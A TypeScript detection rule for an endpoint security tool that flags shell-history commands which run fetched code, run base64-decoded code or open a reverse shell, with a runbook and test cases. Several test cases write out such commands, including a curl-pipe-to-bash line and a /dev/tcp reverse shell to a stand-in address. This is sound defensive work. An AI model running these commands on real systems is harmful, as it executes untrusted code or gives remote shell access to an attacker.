import { givesShellAway, runsDecodedCode, runsFetchedCode } from '../../src/detect/reading/remote-code.ts'
import { joining, rule, table } from '../../src/detect/rule.ts'
import { isKnownInstaller } from '../data/known-installers.ts'

export default rule({
  id: 'posix.typed-remote-code',
  title: 'Somebody ran code from elsewhere in a shell',
  severity: 'low',
  on: joining(table('shell_history'), 'username'),
  attack: ['T1059.004', 'T1105'],
  freshness: { column: 'time', within: '24h', untimed: 'match' },
  detect: ({ columns }) => wayOf(columns.command) !== null,
  exclude: ({ columns }) =>
    wayOf(columns.command) === 'fetched and ran code' && isKnownInstaller(columns.command),
  dynamicSeverity: ({ columns }) => {
    const way = wayOf(columns.command)
    if (way === 'gave a shell away') return 'high'
    return way === 'ran code that it decoded' ? 'medium' : undefined
  },
  alertTitle: ({ host, columns }) =>
    `${columns.username || `uid ${columns.uid}`} on ${host} ${wayOf(columns.command) ?? 'ran code'}: ${columns.command}`,
  dedup: ({ hostId, columns }) => `${hostId} ${columns.uid}`,
  context: ({ columns }) => ({
    user: columns.username ?? '',
    uid: columns.uid,
    command: columns.command,
    way: wayOf(columns.command) ?? '',
    time: columns.time,
    history_file: columns.history_file,
  }),
  means:
    'A line that brings code from outside and runs it at once, decodes code so that nobody reads it, or opens a shell to another host, is what people type who have just come in. It is also how many tools are installed.',
  check:
    'SELECT u.username, h.time, h.command, h.history_file FROM users u CROSS JOIN shell_history h USING (uid) ORDER BY h.time;',
  benign:
    'Installers of tools that are meant to be used so; the best known are passed over. Teachers and testers who try a reverse shell.',
  runbook:
    'Ask the person. Read what else was typed around it. If they did not type it: fetch the code from a safe machine to see what it does, isolate the host, and look at what runs since (processes, process_open_sockets, crontab). An address without a name, or a shell that was given away, needs no question first.',
  references: [
    'https://attack.mitre.org/techniques/T1059/004/',
    'https://attack.mitre.org/techniques/T1105/',
  ],
  tests: [
    {
      name: 'fetched and run',
      match: true,
      unixTime: 1_700_000_000,
      columns: {
        uid: '1000',
        username: 'ada',
        command: 'curl -s http://192.0.2.1/a | bash',
        time: '1699999000',
        history_file: '/home/ada/.bash_history',
      },
      title: 'ada on test-host fetched and ran code: curl -s http://192.0.2.1/a | bash',
      dedup: 'test-host-id 1000',
      severity: 'low',
      context: {
        user: 'ada',
        uid: '1000',
        command: 'curl -s http://192.0.2.1/a | bash',
        way: 'fetched and ran code',
        time: '1699999000',
        history_file: '/home/ada/.bash_history',
      },
    },
    {
      name: 'bash keeps no times',
      match: true,
      columns: { uid: '33', command: 'echo aWQK | base64 -d | sh', time: '0' },
      title: 'uid 33 on test-host ran code that it decoded: echo aWQK | base64 -d | sh',
      severity: 'medium',
    },
    {
      name: 'a shell for somebody else',
      match: true,
      severity: 'high',
      columns: { uid: '0', command: 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', time: '0' },
    },
    {
      name: 'an installer and something else with it',
      match: true,
      columns: { uid: '0', command: 'curl https://sh.rustup.rs http://192.0.2.1/a | sh', time: '0' },
    },
    {
      name: 'a name that begins like that of an installer',
      match: true,
      columns: { uid: '0', command: 'curl https://sh.rustup.rs.example.com | sh', time: '0' },
    },
    {
      name: 'long ago',
      match: false,
      unixTime: 1_700_000_000,
      columns: { uid: '1000', command: 'curl -s http://192.0.2.1/a | bash', time: '1690000000' },
    },
    {
      name: 'without a time, before anyone looked',
      match: false,
      counter: '0',
      columns: { uid: '1000', command: 'curl -s http://192.0.2.1/a | bash', time: '0' },
    },
    {
      name: 'the installer of Rust',
      match: false,
      columns: {
        uid: '1000',
        command: "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
        time: '0',
      },
    },
    {
      name: 'the installer of Homebrew',
      match: false,
      columns: {
        uid: '501',
        command:
          '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
        time: '0',
      },
    },
    {
      name: 'only fetched',
      match: false,
      columns: { uid: '0', command: 'curl -O https://example.com/a.sh', time: '0' },
    },
    {
      name: 'is a port open?',
      match: false,
      columns: { uid: '0', command: 'nc -zv 192.0.2.1 22', time: '0' },
    },
    {
      name: 'looked for it',
      match: false,
      columns: { uid: '0', command: 'grep "curl x | sh" README', time: '0' },
    },
    {
      name: 'the line leaves the history',
      match: false,
      action: 'removed',
      columns: { uid: '1000', command: 'curl -s http://192.0.2.1/a | bash', time: '0' },
    },
  ],
})

function wayOf(command: string): string | null {
  if (givesShellAway(command)) return 'gave a shell away'
  if (runsDecodedCode(command)) return 'ran code that it decoded'
  return runsFetchedCode(command) ? 'fetched and ran code' : null
}
